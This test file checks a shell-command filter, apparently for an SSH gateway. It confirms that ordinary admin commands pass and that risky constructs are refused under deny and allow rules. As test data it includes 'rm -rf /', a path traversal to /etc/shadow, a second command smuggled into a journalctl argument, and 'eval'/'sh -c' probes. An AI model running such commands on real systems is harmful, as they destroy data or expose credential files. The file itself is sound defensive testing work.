    ['environment, aliases, functions and traps', environment],
    ['evaluation of names and arithmetic', evaluation],
    ['redirections', redirection],
    ['allow lists', allowList],
    ['input hygiene', hygiene],
  ];

  for (const [group, attacks] of groups) {
    describe(group, () => {
      it.each(attacks)('stops $attack', (attack) => {
        expectRefused(attack);
      });
    });
  }

  it('counts at least 60 bypass attempts', () => {
    expect(groups.reduce((total, [, attacks]) => total + attacks.length, 0)).toBeGreaterThanOrEqual(60);
  });
});

describe('checkCommand allows ordinary commands', () => {
  const ordinary = [
    'ls -la /var/log',
    'grep -r foo /etc',
    'systemctl status nginx',
    'journalctl -u x --since today',
    'df -h',
    'ps aux | grep y',
    'tail -n 100 /var/log/syslog',
    'cat /etc/os-release',
    'echo "hello world"',
  ];

  it.each(ordinary)('allows %s with no rules', (command) => {
    expect(checkCommand(command, undefined)).toMatchObject({ allowed: true });
  });

  it.each(ordinary)('allows %s with a deny list', (command) => {
    expect(checkCommand(command, DENY)).toMatchObject({ allowed: true });
  });

  it.each(ordinary)('allows %s with an allow list', (command) => {
    expect(checkCommand(command, ALLOW)).toMatchObject({ allowed: true });
  });

  it.each([
    'FOO=bar env',
    'env',
    'env -i FOO=1 -uBAR --unset=BAZ -0 -',
    'nice',
    'command -v ls',
    'command -pV ls',
    'command',
    'trap',
    'trap -p INT',
    "trap '' INT",
    'trap - INT',
    'alias',
    'shopt -s nullglob',
    'hash -r',
    'enable -n echo',
    'echo $HOME "$USER" ${#PATH} ${x:-default} ${x%.log} ${x/a} ${x@Q} ${x:1:2} ${a[0]} ${a[@]} ${!a[@]} ${!prefix*}',
    'echo $((1 + 2 * 0x1f - 16#ff)) $[3] $((-1)) $(( (4) ))',
    'git log --oneline HEAD~3',
    'ls 2>/dev/null',
    'ps aux 2>&1 | grep -v grep',
    'cat /etc/hosts >&2 <&0 3>&-',
    'ls &>/dev/null',
    'tar czf /tmp/logs.tgz /var/log',
    "awk '{print $1}' /etc/hosts",
    "awk -F: -v OFS=, -- '{print $1}' /etc/passwd",
    'gawk -f script.awk /etc/hosts',
    'awk',
    "find /var/log -name '*.log' -mtime +7",
    'sh script.sh arg',
    'bash --norc -- script.sh',
    'bash -o pipefail script.sh',
    'python3 script.py --flag',
    'python3 -W ignore -m http.server 8000',
    'perl script.pl',
    'php -f index.php',
    'node app.js',
    'node -r dotenv/config app.js',
    'node --require dotenv/config app.js',
    'deno run app.ts',
    "cat <<'EOF'\n$(this is not run)\nEOF",
    'cat <<EOF\nplain text\nEOF',
    'grep x <<< "abc def"',
    'if [ -f /etc/hosts ]; then cat /etc/hosts; else echo none; fi',
    '[[ -f /etc/hosts && $x == y* ]] && echo yes',
    '[[ -v HOME ]] && [[ 1 -lt 2 ]] && [[ ( -n x ) ]]',
    'test -n "$x" && [ -v HOME ] && printf "%s\\n" "$x"',
    'for f in a b; do echo $f; done',
    'while read -r line; do echo "$line"; done < /etc/hosts',
    'case $x in a|b) echo ab;; *) echo other;; esac',
    'select x in a b; do break; done',
    '(( 1 )) && echo one',
    'for ((;;)); do break; done',
    'time',
    'x=1; echo $x',
    'a=(1 2); a+=(3); a[0]=4; a=([0]=1 [1]=)',
    'a= ls',
    'declare -a x=(1 2); local y=2; readonly z; typeset -r w=1; export FOO',
    'echo a=~ b:~',
    'echo \\*.log "*" \'?\'',
    'echo {} {a} a{b',
    "echo $'tab\\there' $'\\q' $'\\x' $'\\a\\E\\?'",
    'echo "a\\$b\\q\\\\"',
    'echo a\\',
    'echo $ x $',
    'echo "héllo wörld" > /tmp/ünïcode',
    'read -r line < /etc/hosts',
    'unset x',
    'wait $!',
    'mapfile -t lines < /etc/hosts',
    'printf -v out "%s" x',
    'while IFS= read -r line; do echo "$line"; done < /etc/hosts',
    'set -euo pipefail; ls',
    'sudo -l',
    'sudo',
    'crontab -l',
    'python3 -m json.tool /tmp/x.json',
    "awk -f prog.awk -F, '/x/' /etc/hosts",
    'gawk --file=prog.awk /etc/hosts',
    'ldd /bin/ls',
    'LANG=C ls; LC_ALL=en_US.UTF-8 sort /etc/hosts; LC_CTYPE=C.utf8 ls',
    "'export' FOO=1",
    '{ ls; } 2>/dev/null; (ls) > /tmp/out',
    'echo ${x:-} ${x:-$y}',
  ])('allows %s with no rules', (command) => {
    const decision = checkCommand(command, undefined);
    expect(decision).toMatchObject({ allowed: true });
  });
});

describe('checkCommand words', () => {
  it.each<[string, Partial<Record<'words' | 'assignments' | 'redirects', string[]>> & { isStatic?: boolean }]>([
    ["r'm' \"-rf\" \\/", { words: ['rm', '-rf', '/'], isStatic: true }],
    ["$'\\x72\\155\\u0020\\n' x", { words: ['rm \n', 'x'], isStatic: true }],
    ['echo "a b"c\'d\'', { words: ['echo', 'a bcd'] }],
    ['echo $HOME/x', { words: ['echo', '$HOME/x'], isStatic: false }],
    ['X=1 Y+=2 cmd', { assignments: ['X=1', 'Y+=2'], words: ['cmd'] }],
    ['cmd 2>&1 >/dev/null >out 2>>err <in', { redirects: ['>out', '2>>err', '<in'] }],
    ['cat <<EOF\nx\nEOF', { redirects: ['<<EOF'], isStatic: true }],
    ['grep x <<< "a b"', { redirects: ['<<<a b'] }],
    ['export A=1 B', { words: ['export', 'A=1', 'B'] }],
  ])('%s', (command, expected) => {
    const decision = checkCommand(command, undefined);
    expect(decision.allowed).toBe(true);
    if (decision.allowed) expect(decision.commands[0]).toMatchObject(expected);
  });

  it('lists every simple command, nested ones included, with its source text', () => {
    const decision = checkCommand('ls -l | grep "x y"; echo $(date) 2>/dev/null', { allow_constructs: ['command_substitution'] });
    expect(decision).toEqual({
      allowed: true,
      commands: [
        { words: ['ls', '-l'], assignments: [], redirects: [], text: 'ls -l', isStatic: true },
        { words: ['grep', 'x y'], assignments: [], redirects: [], text: 'grep "x y"', isStatic: true },
        { words: ['date'], assignments: [], redirects: [], text: 'date', isStatic: true },
        { words: ['echo', '$(date)'], assignments: [], redirects: [], text: 'echo $(date) 2>/dev/null', isStatic: false },
      ],
    });
  });

  it('slices the source by character even when offsets are in bytes', () => {
    const decision = checkCommand('echo "é"; ls ü', undefined);
    expect(decision.allowed && decision.commands.map((command) => command.text)).toEqual(['echo "é"', 'ls ü']);
  });
});

describe('checkCommand rules', () => {
  it('anchors nothing itself: an unanchored deny rule matches anywhere', () => {
    expect(checkCommand('echo x; ls /etc/shadow', { deny: ['shadow'] })).toMatchObject({ allowed: false, rule: 'commands.deny[0]', command: 'ls /etc/shadow' });
  });

  it('matches deny rules against the command without its path and prefix assignments', () => {
    expect(checkCommand('LANG=C /usr/bin/rm -rf /', DENY)).toMatchObject({ allowed: false, rule: 'commands.deny[0]' });
  });

  it('matches allow rules against the words as written, with the u flag', () => {
    expect(checkCommand('echo héllo', { allow: ['^echo \\p{L}+$'] })).toMatchObject({ allowed: true });
    expect(checkCommand('/bin/echo x', { allow: ['^echo x$'] })).toMatchObject({ allowed: false, rule: 'commands.allow' });
  });

  it('lets an allow rule permit a prefix assignment or a redirection it names', () => {
    expect(checkCommand('LANG=C ls > /tmp/ls.txt', { allow: ['^LANG=C ls >/tmp/ls\\.txt$'] })).toMatchObject({ allowed: true });
  });

  it('checks deny before allow and reports the first deny rule that matches', () => {
    expect(checkCommand('rm -rf /', { allow: ['.*'], deny: ['^ls', '^rm', 'rf'] })).toMatchObject({ allowed: false, rule: 'commands.deny[1]' });
  });

  it('lets a host opt into each construct', () => {
    expect(checkCommand("bash -c 'id'", { allow_constructs: ['shell_code'] })).toMatchObject({ allowed: true });
    expect(checkCommand('$CMD', { allow_constructs: ['dynamic_command_name'] })).toMatchObject({ allowed: true });
    expect(checkCommand('let x=1', { allow_constructs: ['arithmetic'] })).toMatchObject({ allowed: true });
    expect(checkCommand('eval id', { allow_constructs: ['eval'] })).toMatchObject({ allowed: true });
    expect(checkCommand('echo / | xargs ls', { allow_constructs: ['xargs'] })).toMatchObject({ allowed: true });
  });

  it('ignores allow_constructs names it does not know (config validation refuses them before this)', () => {
    const rules = { allow_constructs: ['everything'] } as unknown as CommandRules;
    expect(checkCommand('eval id', rules)).toMatchObject({ allowed: false, rule: 'construct:eval' });
  });

  it('uses max_length from the rules', () => {
    expect(checkCommand('echo 123456', { max_length: 10 })).toMatchObject({ allowed: false, rule: 'max_length' });
    expect(checkCommand('echo 1234', { max_length: 10 })).toMatchObject({ allowed: true });
  });

  it('reuses compiled rules for the same rules object', () => {
    expect(checkCommand('ls', ALLOW)).toMatchObject({ allowed: true });
    expect(checkCommand('ls', ALLOW)).toMatchObject({ allowed: true });
  });

  it('keeps working after the parser overflowed its stack', () => {
    checkCommand(`echo ${'$('.repeat(2000)}x${')'.repeat(2000)}`, undefined);
    expect(checkCommand('ls', undefined)).toMatchObject({ allowed: true });
  });

  it('shows control characters escaped in the refusal', () => {
    const decision = checkCommand('ls\rrm', undefined);
    expect(decision).toMatchObject({ allowed: false, command: 'ls\\u{d}rm' });
    expect(decision.allowed || decision.message).toContain('U+000D at index 2');
  });

  it('truncates long commands in refusals', () => {
    const decision = checkCommand(`${'echo x; '.repeat(40)}eval id`, undefined);
    expect(decision).toMatchObject({ allowed: false, rule: 'construct:eval', command: 'eval id' });
    const long = checkCommand(`eval ${'x'.repeat(300)}`, undefined);
    expect(long.allowed || long.message).toContain('...');
  });

  it('names the rule and the command, and tells the operator how to opt in', () => {
    const decision = checkCommand('ls; sh -c id', undefined);
    expect(decision).toEqual({
      allowed: false,
      rule: 'construct:shell_code',
      command: 'sh -c id',
      message:
        'Command refused by rule construct:shell_code on `sh -c id`: a shell given code to run (sh -c, bash -c, ...) runs a string as code. ' +
        'Rewrite the command without it, or the operator can allow it for this host with commands.allow_constructs: [shell_code].',
    });
  });
});

describe('the allow rules shown in docs/security-model.md', () => {
  const documented: CommandRules = {
    allow: [
      '^systemctl status [\\w.@-]+$',
      '^journalctl -u [\\w.@-]+ --since (today|yesterday|\\d{4}-\\d\\d-\\d\\d)$',
      '^journalctl -u [\\w.@-]+ -n \\d+ --no-pager$',
      '^tail -n \\d+ /var/log/(?!.*\\.\\.)[\\w./-]+$',
      '^df -h$',
      '^ps aux$',
      '^grep (-E )?[\\w.-]+$',
      '^git -C /srv/app (status|log --oneline -n \\d+)$',
    ],
    deny: ['^rm\\b', '>\\S*/etc/'],
    max_length: 4096,
  };

  it.each(['systemctl status nginx.service', 'journalctl -u nginx --since 2024-01-31', 'ps aux | grep nginx', "git -C /srv/app log --oneline -n 5", 'tail -n 50 /var/log/nginx/error.log'])(
    'allows %s',
    (command) => {
      expect(checkCommand(command, documented)).toMatchObject({ allowed: true });
    },
  );

  it.each(['systemctl stop nginx', 'journalctl -u nginx --since "2024-01-31; id"', 'tail -n 50 /var/log/../../etc/shadow', 'git -C /srv/app log --oneline -n 5 -p', 'ps aux > /tmp/x'])(
    'refuses %s',
    (command) => {
      expect(checkCommand(command, documented)).toMatchObject({ allowed: false, rule: 'commands.allow' });
    },
  );
});

describe('assertCommandAllowed', () => {
  it('returns the simple commands of an allowed command', () => {
    expect(assertCommandAllowed('df -h', undefined)).toEqual([{ words: ['df', '-h'], assignments: [], redirects: [], text: 'df -h', isStatic: true }]);
  });

  it('throws COMMAND_DENIED with the rule and the command', () => {
    let thrown: unknown;
    try {
      assertCommandAllowed('ls; eval id', undefined);
    } catch (err) {
      thrown = err;
    }
    expect(isSshgateError(thrown, 'COMMAND_DENIED')).toBe(true);
    expect(thrown).toMatchObject({ details: { rule: 'construct:eval', command: 'eval id' } });
  });
});

describe('CONSTRUCTS', () => {
  it('describes every construct', () => {
    expect(Object.keys(CONSTRUCT_DESCRIPTIONS).sort()).toEqual([...CONSTRUCTS].sort());
  });
});
